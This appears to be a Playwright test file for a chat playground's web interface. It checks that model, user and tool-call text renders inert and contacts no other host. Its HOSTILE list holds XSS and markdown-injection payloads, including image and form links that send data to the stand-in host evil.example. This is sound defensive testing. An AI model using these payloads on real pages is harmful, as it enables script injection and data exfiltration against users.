"""Text is text: whatever a model, a tool or a user writes, nothing of it acts, and nothing is fetched.

That no other host is asked and nothing is reported on the console is checked after every test (conftest).
"""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.playground.acts import finished, last_reply, say, set_up, titles
from tests.playground.fake_server import PLAYGROUND, FakeServer, calls, text, thought

HOSTILE = [
    "<script>window.hacked = 1</script>",
    '<img src="x" onerror="window.hacked = 1">',
    '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror="window.hacked = 1">',
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&#58;window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:window.hacked=1>",
    "![a](x\" onerror=\"window.hacked=1)",
    "![secret](http://evil.example/?q=secret)",
    "[a]: http://evil.example/x.css\n\n![a][a]",
    '```"><img src=x onerror=window.hacked=1>\ncode</code></pre><script>window.hacked = 1</script>\n```',
    "`<script>window.hacked = 1</script>`",
    "| <b onmouseover=window.hacked=1>a</b> |\n|---|\n| <script>window.hacked=1</script> |",
    '<a href="http://a.example" style="position:fixed;inset:0" onclick="window.hacked=1">over all</a>',
    '<form action="http://evil.example"><input name=q><button>send</button></form>',
    '<link rel=stylesheet href=http://evil.example/a.css><style>*{display:none}</style>',
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}",
    "\u202eevil\u202c <bdo dir=rtl>x</bdo>",
]  # fmt: skip
FORBIDDEN = (
    "script, iframe, object, embed, form, input, link, style, svg, math, img, base, meta, [style], [srcdoc]"
)
OUR_OWN = r'<svg[^>]*><use href="#icon-\w+"></use></svg>$|<img src="icon.svg"'


def assert_harmless(page: Page, place: str) -> None:
    """Nothing ran, and nothing is there that could: no forbidden element, no handler, no odd address."""
    assert page.evaluate("window.hacked") is None
    found = page.locator(place)
    forbidden = found.locator(FORBIDDEN).evaluate_all("nodes => nodes.map((node) => node.outerHTML)")
    assert [html for html in forbidden if not re.match(OUR_OWN, html)] == []
    names = "nodes => nodes.flatMap((n) => n.getAttributeNames()).filter((name) => name.startsWith('on'))"
    assert found.locator("*").evaluate_all(names) == []
    links = found.locator("a").evaluate_all("nodes => nodes.map((n) => [n.href, n.rel, n.target])")
    for href, rel, target in links:
        assert re.match(r"https?:|mailto:", href) or href == ""
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")


@pytest.mark.parametrize("streamed", ["whole", "letter by letter"])
def test_hostile_text_of_a_model_is_only_text(page: Page, server: FakeServer, streamed: str) -> None:
    everything = "\n\n".join(HOSTILE)
    pieces = [everything] if streamed == "whole" else list(everything)
    server.script = [[*thought(everything), *text(*pieces)]]
    say(page, "Attack")
    reply = finished(page)
    reply.locator("summary").click()
    assert_harmless(page, ".reply .prose")
    assert_harmless(page, ".thought-text")
    expect(reply.locator(".prose")).to_contain_text("<script>window.hacked = 1</script>")
    expect(reply.locator(".thought-text")).to_have_text(everything)


def test_hostile_text_of_a_user_is_only_text(page: Page, server: FakeServer) -> None:
    everything = "\n".join(HOSTILE)
    server.script = [text("No.")]
    server.models = ["<img src=x onerror=window.hacked=1>"]
    page.reload()
    say(page, everything)
    finished(page)
    expect(page.locator(".said")).to_have_text(everything)
    assert_harmless(page, ".said")
    assert_harmless(page, "#conversations")
    assert page.locator("#model option").inner_text() == server.models[0]
    page.reload()
    expect(titles(page).first).to_contain_text("<script>")
    assert_harmless(page, "body .shelf")


def test_hostile_calls_of_tools_are_only_text(page: Page, server: FakeServer) -> None:
    attack = "".join(HOSTILE)
    server.script = [calls((attack, {"<b>": attack})), text("Done.")]
    set_up(page).get_by_label("Offer tools").check()
    say(page, "Attack")
    finished(page)
    assert_harmless(page, ".calls .code-block")
    page.get_by_placeholder("What the tool returns").fill(attack)
    page.keyboard.press("Enter")
    expect(last_reply(page).locator(".prose")).to_have_text("Done.")
    page.get_by_text("Result", exact=True).click()
    expect(page.locator(".result pre")).to_have_text(attack)
    assert_harmless(page, ".calls .result")


def test_links_and_pictures_of_a_model_are_links(page: Page, server: FakeServer) -> None:
    server.script = [
        text("See [this](https://a.example/x) and ![a cat](https://b.example/cat.png), not model.py.")
    ]
    say(page, "Show me")
    links = finished(page).locator(".prose a")
    expect(links).to_have_text(["this", "a cat"])
    expect(links.nth(1)).to_have_attribute("href", "https://b.example/cat.png")


def test_the_page_s_own_policy_runs_no_script_and_asks_no_other_host(page: Page, problems: list[str]) -> None:
    """It would hold were there a fault in all the rest."""
    refused = page.evaluate("fetch('http://127.0.0.1:9/x').then(() => 'sent', (error) => error.name)")
    assert refused == "TypeError"
    run = page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"
        " document.body.append(s); return window.hacked; }"
    )
    assert run is None
    assert len(problems) == 3
    assert all("Content Security Policy" in text for text in problems)
    problems.clear()


def test_no_module_writes_html_but_through_the_cleaner() -> None:
    files = sorted(PLAYGROUND.glob("*.js"))
    assert len(files) > 10
    banned = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|srcdoc|DOMParser"
    )
    assert [path.name for path in files if banned.search(path.read_text())] == []
    assert [path.name for path in files if "sanitize" in path.read_text()] == ["clean.js"]


def test_no_file_of_the_page_names_another_host() -> None:
    for path in [*PLAYGROUND.glob("*.js"), *PLAYGROUND.glob("*.html"), *Path(PLAYGROUND / "style").iterdir()]:
        found = set(re.findall(r"https?://[\w.-]+", path.read_text()))
        assert found <= {"http://www.w3.org"}, path.name  # the name of SVG's namespace
